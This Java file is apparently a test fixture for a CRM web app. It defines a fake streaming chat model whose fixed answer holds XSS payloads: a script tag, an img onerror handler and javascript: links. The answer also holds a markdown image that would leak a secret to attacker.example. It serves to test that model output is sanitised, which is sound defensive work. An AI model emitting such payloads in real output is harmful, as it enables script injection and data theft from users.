package io.intelligencecrm.web.browser;

import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.model.chat.StreamingChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.model.chat.response.StreamingChatResponseHandler;
import dev.langchain4j.model.output.FinishReason;
import dev.langchain4j.model.output.TokenUsage;
import java.util.List;

/** A model whose every answer tries to inject markup, run script and leak data through an image URL. */
final class HostileModel implements StreamingChatModel {
    static final String ANSWER = """
            Here you go <script>window.__pwned = 'script'</script> and <img src=x onerror="window.__pwned='img'">
            [click me](javascript:window.__pwned='link') and ![chart](http://attacker.example/leak?secret=PIPELINE)
            <a href="javascript:window.__pwned='raw'">raw link</a> **bold stays** [docs](https://example.com/docs)""";

    @Override
    public void doChat(ChatRequest request, StreamingChatResponseHandler handler) {
        List.of(ANSWER.substring(0, 40), ANSWER.substring(40)).forEach(handler::onPartialResponse);
        handler.onCompleteResponse(ChatResponse.builder().aiMessage(AiMessage.from(ANSWER)).modelName("hostile")
                .finishReason(FinishReason.STOP).tokenUsage(new TokenUsage(10, 10)).build());
    }
}
